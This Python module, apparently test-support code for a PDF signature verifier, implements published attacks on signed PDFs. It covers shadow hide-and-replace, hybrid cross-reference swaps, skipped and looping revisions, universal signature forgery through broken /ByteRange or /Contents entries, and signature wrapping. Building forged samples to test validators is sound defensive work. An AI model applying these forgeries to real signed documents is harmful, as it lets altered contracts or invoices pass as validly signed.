"""What a forger does to the structure of a signed PDF: revisions written by hand, with tables that say what he likes.

The attacks are those of the literature: "1 Trillion Dollar Refund" (CCS 2019: universal signature forgery, incremental
saving, signature wrapping), "Shadow Attacks" (NDSS 2021) and "Breaking the Specification" (IEEE S&P 2021).
"""

from __future__ import annotations

import re
import struct
from collections.abc import Mapping
from typing import Literal

_TRAILER = re.compile(rb"/(Root|Info) (\d+) 0 R")
_START = re.compile(rb"startxref\s+(\d+)\s+%%EOF")

Forgery = Literal[
    "no-byte-range", "null-byte-range", "short-byte-range", "negative-byte-range", "word-byte-range",
    "no-contents", "null-contents", "empty-contents", "zero-contents",
]  # fmt: skip


def add_revision(
    pdf: bytes, objects: Mapping[int, bytes], *, points_to: Mapping[int, int] | None = None,
    frees: Mapping[int, int] | None = None, generations: Mapping[int, int] | None = None,
    other_half: Mapping[int, bytes] | None = None, previous: int | None = None, root: int | None = None,
    before: bytes = b"",
) -> bytes:  # fmt: skip
    """An incremental update with a plain table.

    `points_to`: offsets that the table gives for objects that the update does not hold. `frees`: numbers with the
    generation that their entry names. `other_half`: objects that only the stream of a hybrid table gives. `previous`:
    where /Prev points, by default to the newest table. `before`: bytes that stand before the objects and in no table.
    """
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n") + before
    versions = dict(generations or {})
    entries: dict[int, tuple[int, int, bytes]] = {}

    def add(number: int, body: bytes) -> int:
        start = len(out)
        out.extend(b"%d %d obj\n%s\nendobj\n" % (number, versions.get(number, 0), body))
        return start

    for number, body in objects.items():
        entries[number] = (add(number, body), versions.get(number, 0), b"n")
    for number, offset in (points_to or {}).items():
        entries[number] = (offset, versions.get(number, 0), b"n")
    for number, generation in (frees or {}).items():
        entries[number] = (0, generation, b"f")
    size = max(size_of(pdf), *(n + 1 for n in entries), 1) if entries else size_of(pdf)
    extra = b""
    if other_half is not None:
        places = {number: add(number, body) for number, body in sorted(other_half.items())}
        size += 1
        places[size - 1] = len(out)
        data = b"".join(struct.pack(">BIH", 1, place, 0) for _, place in sorted(places.items()))
        index = " ".join(f"{number} 1" for number in sorted(places)).encode()
        head = b"<</Type/XRef/Size %d/W[1 4 2]/Index[%s]/Root %d 0 R/Length %d>>" % (
            size,
            index,
            root_of(pdf),
            len(data),
        )
        extra = b"/XRefStm %d" % add(size - 1, head + b"stream\n" + data + b"\nendstream")
    table = len(out)
    out += b"xref\n"
    for number, (offset, generation, word) in sorted(entries.items()):
        out += b"%d 1\n%010d %05d %s \n" % (number, offset, generation, word)
    last = newest_table(pdf) if previous is None else previous
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d%s>>\n" % (size, root or root_of(pdf), last, extra)
    out += b"startxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def newest_table(pdf: bytes) -> int:
    return int(_START.findall(pdf)[-1])


def root_of(pdf: bytes) -> int:
    return int([n for word, n in _TRAILER.findall(pdf) if word == b"Root"][-1])


def size_of(pdf: bytes) -> int:
    """The number of object numbers that the file uses, from its newest trailer."""
    return max(int(n) for n in re.findall(rb"/Size (\d+)", pdf))


def swap_halves(unsigned: bytes, number: int, one: bytes, other: bytes) -> bytes:
    """A hybrid file (table and stream) in which an object is one thing to old viewers and another to new ones."""
    return add_revision(unsigned, {number: one}, other_half={number: other})


def hide_object(unsigned: bytes, number: int, body: bytes) -> tuple[bytes, int]:
    """A second object of the same number in bytes that no table lists, and where it stands: to be signed like this."""
    hidden = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    found = add_revision(unsigned, {size_of(unsigned): b"<</Note(nothing to see)>>"}, before=hidden)
    return found, found.rindex(hidden)


def show_hidden(signed: bytes, number: int, position: int) -> bytes:
    """The second step of hide-and-replace: an update whose table points to what was hidden when it was signed."""
    return add_revision(signed, {}, points_to={number: position})


def embed_object(signed: bytes, number: int, body: bytes) -> bytes:
    """An update that lists an object in the middle of a stream that nothing refers to."""
    inner = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    host = size_of(signed)
    head = b"<</Length %d>>stream\n" % (len(inner) + 2)
    start = len(signed if signed.endswith(b"\n") else signed + b"\n") + len(b"%d 0 obj\n" % host) + len(head) + 1
    return add_revision(signed, {host: head + b"\n" + inner + b"\n\nendstream"}, points_to={number: start})


def skip_revision(changed: bytes, signed: bytes) -> bytes:
    """A further update of `changed` that goes back to the table of `signed`: what lies between is passed by."""
    return add_revision(changed, {size_of(changed): b"<<>>"}, previous=newest_table(signed))


def loop_tables(signed: bytes) -> bytes:
    """An update whose /Prev leads to itself."""
    found = add_revision(signed, {size_of(signed): b"<<>>"}, previous=0)
    table = newest_table(found)
    return add_revision(signed, {size_of(signed): b"<<>>"}, previous=table + len(b"%d" % table) - 1)


def forge(signed: bytes, kind: Forgery) -> bytes:
    """Universal signature forgery: the signature's dictionary loses what a check would need."""
    found = re.search(rb"/ByteRange \[[^\]]*\]", signed)
    value = re.search(rb"/Contents <([0-9A-Fa-f]{200,})>", signed)
    assert found is not None and value is not None
    match kind:
        case "no-byte-range":
            return _put(signed, found.span(), b"")
        case "null-byte-range":
            return _put(signed, found.span(), b"/ByteRange null")
        case "short-byte-range":
            return _put(signed, found.span(), b"/ByteRange [0]")
        case "negative-byte-range":
            return _put(signed, found.span(), b"/ByteRange [-1 9 9 -1]")
        case "word-byte-range":
            return _put(signed, found.span(), b"/ByteRange /All")
        case "no-contents":
            return _put(signed, value.span(), b"")
        case "null-contents":
            return _put(signed, value.span(), b"/Contents null")
        case "empty-contents":
            return _put(signed, value.span(), b"/Contents <>")
        case "zero-contents":
            return _put(signed, value.span(), b"/Contents <00>")


def wrap(signed: bytes) -> bytes:
    """Signature wrapping: the second signed part moves back, its old place is the forger's, the range says so."""
    start, end = _gap(signed)
    extra = b"\n%d 0 obj\n<</Note(not signed)>>\nendobj\n" % size_of(signed)
    moved = signed[:end] + extra + signed[end:]
    return _range(moved, (0, start, end + len(extra), len(signed) - end))


def move_contents(signed: bytes) -> bytes:
    """A second /Contents, read instead of the one that the byte range leaves out."""
    start, end = _gap(signed)
    number = int(re.findall(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange", signed[: end + 400], re.DOTALL)[-1])
    other = signed[start:end].replace(b"30", b"31", 1)
    span = (0, start, end, len(signed) - end)
    body = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[%d %d %d %d]/Contents %s>>"
    return add_revision(signed, {number: body % (*span, other)})


def _gap(signed: bytes) -> tuple[int, int]:
    """Where the newest byte range leaves out."""
    first, length, second, _ = (int(v) for v in re.findall(rb"/ByteRange \[ ?(\d+) (\d+) (\d+) (\d+)", signed)[-1])
    return first + length, second


def _put(pdf: bytes, span: tuple[int, int], new: bytes) -> bytes:
    return pdf[: span[0]] + new.ljust(span[1] - span[0]) + pdf[span[1] :]


def _range(pdf: bytes, span: tuple[int, int, int, int]) -> bytes:
    found = [*re.finditer(rb"/ByteRange \[[^\]]*\] *", pdf)][-1]
    return _put(pdf, found.span(), b"/ByteRange [%d %d %d %d]" % span)
